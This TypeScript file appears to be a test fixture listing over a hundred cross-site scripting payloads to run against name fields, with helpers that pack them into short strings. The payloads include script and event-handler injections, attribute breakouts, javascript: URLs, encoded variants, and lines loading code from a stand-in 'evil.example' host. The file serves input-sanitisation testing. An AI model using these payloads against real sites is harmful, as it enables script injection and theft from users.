/** What attackers write where a name is asked for: each would run, or make an element, where text is taken for markup. */

/** `RUN` stands for what runs: a dialog, or a mark on the window. */
const SHAPES: readonly string[] = [
  // Scripts, whole, broken and nested.
  '<script>RUN</script>',
  '<SCRIPT>RUN</SCRIPT>',
  '<scr<script>ipt>RUN</scr</script>ipt>',
  '<script/xss>RUN</script>',
  '<script src=//evil.example/x.js></script>',
  '<script src=data:text/javascript,RUN></script>',
  '<script type=module>RUN</script>',
  '</script><script>RUN</script>',
  '</title><script>RUN</script>',
  '</textarea><script>RUN</script>',
  '</style><script>RUN</script>',
  '--><script>RUN</script>',
  ']]><script>RUN</script>',
  '<noscript><p title="</noscript><script>RUN</script>">',
  '<template><script>RUN</script></template>',
  // Elements that act by themselves.
  '<img src=x onerror=RUN>',
  '<img src=x onerror="RUN">',
  "<img src=x onerror='RUN'>",
  '<img src=x:x onerror=RUN//',
  '<IMG """><SCRIPT>RUN</SCRIPT>">',
  '<img/src/onerror=RUN>',
  '<img srcset=x onerror=RUN>',
  '<image src=x onerror=RUN>',
  '<picture><source srcset=x><img onerror=RUN src=x></picture>',
  '<body onload=RUN>',
  '<body/onpageshow=RUN>',
  '<iframe srcdoc="<script>parent.RUN</script>">',
  '<iframe src=javascript:parent.RUN>',
  '<iframe onload=RUN>',
  '<frameset onload=RUN>',
  '<object data=javascript:RUN>',
  '<object data="data:text/html,<script>RUN</script>">',
  '<embed src=javascript:RUN>',
  '<video><source onerror=RUN></video>',
  '<video src=x onerror=RUN>',
  '<audio src=x onerror=RUN>',
  '<input autofocus onfocus=RUN>',
  '<select autofocus onfocus=RUN>',
  '<textarea autofocus onfocus=RUN>',
  '<button autofocus onfocus=RUN>',
  '<a autofocus onfocus=RUN href=#>x</a>',
  '<div tabindex=0 autofocus onfocus=RUN>',
  '<details open ontoggle=RUN>',
  '<marquee onstart=RUN>',
  '<meter onmouseover=RUN>0</meter>',
  '<dialog open onclose=RUN>',
  '<div style="animation:x" onanimationstart=RUN>',
  '<style>@import"//evil.example/x.css"</style>',
  '<style onload=RUN></style>',
  '<link rel=stylesheet href=//evil.example/x.css onerror=RUN>',
  '<link rel=prefetch href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=javascript:RUN">',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href=//evil.example/>',
  '<xss id=x tabindex=1 onfocus=RUN autofocus>',
  '<b xss>bold</b>',
  // Out of an attribute.
  '" onmouseover="RUN',
  "' onmouseover='RUN",
  '" autofocus onfocus="RUN" x="',
  '"><img src=x onerror=RUN>',
  "'><img src=x onerror=RUN>",
  '`><img src=x onerror=RUN>',
  '"/><svg/onload=RUN>',
  '" style="background:url(//evil.example)"',
  // URLs.
  'javascript:RUN',
  'JaVaScRiPt:RUN',
  'java\tscript:RUN',
  ' javascript:RUN',
  'javascript://x/%0aRUN',
  'javascript&colon;RUN',
  'data:text/html,<script>RUN</script>',
  'vbscript:msgbox(1)',
  '<a href="javascript:RUN">x</a>',
  '<a href="&#106;avascript:RUN">x</a>',
  '<form action=javascript:RUN><input type=submit>',
  '<form><button formaction=javascript:RUN>x',
  '//evil.example/%2f..',
  // Drawings and formulas.
  '<svg onload=RUN>',
  '<svg/onload=RUN//',
  '<svg><script>RUN</script></svg>',
  '<svg><animate onbegin=RUN attributeName=x dur=1s>',
  '<svg><set onbegin=RUN attributename=x>',
  '<svg><a xlink:href=javascript:RUN><text y=9>x</text></a>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=RUN>#x">',
  '<svg><foreignObject><iframe onload=RUN></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=RUN>',
  '<math href="javascript:RUN">x</math>',
  // Marks of templates.
  '{{constructor.constructor("RUN")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is text that a template would run
  '${RUN}',
  '#{RUN}',
  '<%= RUN %>',
  '{%raw%}<script>RUN</script>{%endraw%}',
  '__proto__',
  '{"__html":"<img src=x onerror=RUN>"}',
  '$& $1 $` %s %d %00',
  // Written in another way.
  '&lt;script&gt;RUN&lt;/script&gt;',
  '&#60;img src=x onerror=RUN&#62;',
  '%3Cscript%3ERUN%3C/script%3E',
  '\\u003cscript\\u003eRUN\\u003c/script\\u003e',
  '\uff1cscript\uff1eRUN\uff1c/script\uff1e',
  '\u2039img src=x onerror=RUN\u203a',
  '<\u017fcript>RUN</\u017fcript>',
  '\u202e<img src=x onerror=RUN>\u202c',
  '<img\u00a0src=x\u00a0onerror=RUN>',
  'a\u0300\u0301\u0302\u0303\u0304\u0305<svg onload=RUN>',
  '👩‍🚀<img src=x onerror=RUN>👩‍🚀',
  // Markdown.
  '[x](javascript:RUN)',
  '![x](x"onerror="RUN)',
  '![x](//evil.example/p.png)',
  '<javascript:RUN>',
  '[x]: javascript:RUN "x"',
  '`</code><img src=x onerror=RUN>`',
  '```html\n<script>RUN</script>\n```',
  // Long.
  `${'<div>'.repeat(14)}<img src=x onerror=RUN>`,
  `${'A'.repeat(64)}<svg onload=RUN>`,
  `${'"'.repeat(40)}><img src=x onerror=RUN>`,
]

/** At most 100 characters each. */
export const payloads: readonly string[] = SHAPES.map((shape, at) =>
  shape.replaceAll('RUN', at % 2 === 0 ? 'alert(1)' : 'pwned=1'),
)

/** As few texts as hold them all, of so many characters at most. */
export function packed(maxLength: number, all: readonly string[] = payloads): string[] {
  const texts: string[] = []
  for (const payload of all) {
    const longer = `${texts.at(-1) ?? ''} ${payload}`
    if (texts.length > 0 && longer.length <= maxLength) texts[texts.length - 1] = longer
    else texts.push(payload)
  }
  return texts
}

/** Those that can stand in a header. */
export const headerPayloads: readonly string[] = payloads.filter((text) => /^[!-~][ -~]*[!-~]$/.test(text))
